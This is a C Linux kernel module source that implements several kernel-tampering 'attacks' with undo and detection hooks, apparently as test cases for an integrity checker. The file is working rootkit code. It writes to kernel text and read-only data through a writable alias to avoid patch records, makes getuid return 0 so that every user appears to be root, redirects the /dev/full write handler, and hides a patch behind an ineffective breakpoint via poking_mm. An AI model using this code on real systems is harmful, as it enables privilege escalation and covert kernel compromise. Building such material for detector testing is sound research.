// SPDX-License-Identifier: GPL-2.0-only
/*
 * Overwrites kernel text and read-only data through a writable alias, so that
 * none of Linux's records of patched text has an entry.
 */
#include <linux/fs.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/page.h>
#include <asm/sections.h>
#include <asm/special_insns.h>
#include <asm/text-patching.h>
#include <asm/tsc.h>

#include "attacks.h"

static const u8 return_zero[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */

static bool in_module(const u8 *at)
{
	return (unsigned long)at >= MODULES_VADDR && (unsigned long)at < MODULES_END;
}

u8 *alias_map(const u8 *at)
{
	struct page *pages[2];
	u8 *alias;

	if (in_module(at)) {
		pages[0] = vmalloc_to_page(at);
		if (!pages[0])
			return NULL;
		/* Behind the last page, there is none. */
		pages[1] = vmalloc_to_page(at + PAGE_SIZE) ?: pages[0];
	} else {
		pages[0] = pfn_to_page(PHYS_PFN(__pa(at)));
		pages[1] = pages[0] + 1;
	}
	alias = vmap(pages, ARRAY_SIZE(pages), VM_MAP, PAGE_KERNEL);
	return alias ? alias + offset_in_page(at) : NULL;
}

void alias_unmap(u8 *alias)
{
	vunmap((void *)((unsigned long)alias & PAGE_MASK));
}

void overwrite(u8 *alias, const u8 *bytes, size_t count)
{
	unsigned long offset = (unsigned long)alias % 8;
	u64 word;

	if (offset + count > 8) {
		memcpy(alias, bytes, count);
		return;
	}
	word = READ_ONCE(*(u64 *)(alias - offset));
	memcpy((u8 *)&word + offset, bytes, count);
	WRITE_ONCE(*(u64 *)(alias - offset), word);
}

static bool in_kernel_image(unsigned long at, size_t bytes)
{
	unsigned long text = symbol("_stext"), text_end = symbol("_etext");
	unsigned long data = symbol("__start_rodata"), data_end = symbol("__end_rodata");

	return (at >= text && at + bytes <= text_end) ||
	       (at >= data && at + bytes <= data_end);
}

int patch_begin(struct attack *attack, struct patch *patch)
{
	unsigned long flags;
	u8 *alias;

	if (!in_kernel_image((unsigned long)patch->at, patch->bytes) && !in_module(patch->at))
		return -EFAULT;
	alias = alias_map(patch->at);
	if (!alias)
		return -ENOMEM;
	memcpy(patch->old, patch->at, patch->bytes);
	snprintf(attack->about, sizeof(attack->about), "%pS %*ph was %*ph", patch->at,
		 (int)patch->bytes, patch->bad, (int)patch->bytes, patch->old);
	local_irq_save(flags);
	attack->tsc = rdtsc_ordered();
	overwrite(alias, patch->bad, patch->bytes);
	attack_done(attack);
	local_irq_restore(flags);
	alias_unmap(alias);
	return 0;
}

bool patch_present(const struct patch *patch)
{
	return !memcmp(patch->at, patch->bad, patch->bytes);
}

void patch_undo(struct patch *patch)
{
	u8 *alias;

	if (!patch_present(patch))
		return;
	alias = alias_map(patch->at);
	if (WARN_ON(!alias))
		return;
	overwrite(alias, patch->old, patch->bytes);
	alias_unmap(alias);
}

int patch_to_zero(struct attack *attack, struct patch *patch, u8 *at)
{
	patch->at = at;
	patch->bytes = sizeof(return_zero);
	memcpy(patch->bad, return_zero, sizeof(return_zero));
	return patch_begin(attack, patch);
}

static struct patch text;

/* [FUNCTION[+OFFSET]]: returns 0 from there on. Default: getuid, so every user seems to be root. */
static int text_begin(struct attack *attack, char *argument)
{
	char function[] = "__x64_sys_getuid";
	unsigned long at = symbol_with_offset(*argument ? argument : function);

	if (!at)
		return -ENOENT;
	return patch_to_zero(attack, &text, (u8 *)at);
}

static void text_undo(struct attack *attack)
{
	patch_undo(&text);
}

static bool text_present(struct attack *attack)
{
	return patch_present(&text);
}

struct attack patch_text = {
	.name = "patch-text",
	.begin = text_begin,
	.undo = text_undo,
	.present = text_present,
};

static struct patch module;

/* FUNCTION[+OFFSET] of a module: returns 0 from there on. */
static int module_begin(struct attack *attack, char *argument)
{
	unsigned long at = symbol_with_offset(argument);

	if (!at || !in_module((u8 *)at))
		return -ENOENT;
	return patch_to_zero(attack, &module, (u8 *)at);
}

static void module_undo(struct attack *attack)
{
	patch_undo(&module);
}

static bool module_present(struct attack *attack)
{
	return patch_present(&module);
}

struct attack patch_module = {
	.name = "patch-module",
	.begin = module_begin,
	.undo = module_undo,
	.present = module_present,
};

static struct patch rodata;

/* [TABLE INDEX FUNCTION]: changes a table entry. Default: writes to /dev/full succeed. */
static int rodata_begin(struct attack *attack, char *argument)
{
	const char *table = strsep(&argument, " "), *index = strsep(&argument, " ");
	unsigned long at, value, number;

	if (!*table) {
		table = "full_fops";
		number = offsetof(struct file_operations, write) / sizeof(void *);
		argument = "write_null";
	} else if (!index || !argument || kstrtoul(index, 0, &number)) {
		return -EINVAL;
	}
	at = symbol(table);
	value = symbol(argument);
	if (!at || !value)
		return -ENOENT;
	rodata.at = (u8 *)(at + number * sizeof(void *));
	rodata.bytes = sizeof(value);
	memcpy(rodata.bad, &value, sizeof(value));
	return patch_begin(attack, &rodata);
}

static void rodata_undo(struct attack *attack)
{
	patch_undo(&rodata);
}

static bool rodata_present(struct attack *attack)
{
	return patch_present(&rodata);
}

struct attack patch_rodata = {
	.name = "patch-rodata",
	.begin = rodata_begin,
	.undo = rodata_undo,
	.present = rodata_present,
};

/*
 * Overwrites a function as Linux patches one: in the address space of its own
 * patches, behind a breakpoint. But the breakpoint is in the padding ahead of
 * the function, where it has no effect.
 */
static struct patch behind;
static u8 behind_ahead;

static int behind_write(u8 ahead, const u8 *bytes, bool first)
{
	struct mm_struct **space = (void *)symbol("poking_mm");
	unsigned long flags, cr3;
	u8 *alias;

	if (!space)
		return -ENOENT;
	alias = alias_map(behind.at - 1);
	if (!alias)
		return -ENOMEM;
	local_irq_save(flags);
	cr3 = __native_read_cr3();
	native_write_cr3(__pa((*space)->pgd));
	if (first)
		WRITE_ONCE(*alias, ahead);
	overwrite(alias + 1, bytes, behind.bytes);
	if (!first)
		WRITE_ONCE(*alias, ahead);
	native_write_cr3(cr3);
	local_irq_restore(flags);
	alias_unmap(alias);
	return 0;
}

static int behind_begin(struct attack *attack, char *unused)
{
	int error;

	behind.at = (u8 *)symbol("__x64_sys_getuid");
	behind.bytes = sizeof(return_zero);
	if (!behind.at)
		return -ENOENT;
	memcpy(behind.old, behind.at, behind.bytes);
	behind_ahead = behind.at[-1];
	snprintf(attack->about, sizeof(attack->about), "%pS", behind.at);
	attack->tsc = rdtsc_ordered();
	error = behind_write(INT3_INSN_OPCODE, return_zero, true);
	if (!error)
		attack_done(attack);
	return error;
}

static bool behind_present(struct attack *attack)
{
	return !memcmp(behind.at, return_zero, sizeof(return_zero));
}

static void behind_undo(struct attack *attack)
{
	if (behind_present(attack))
		behind_write(behind_ahead, behind.old, false);
}

struct attack patch_behind = {
	.name = "patch-behind",
	.begin = behind_begin,
	.undo = behind_undo,
	.present = behind_present,
};
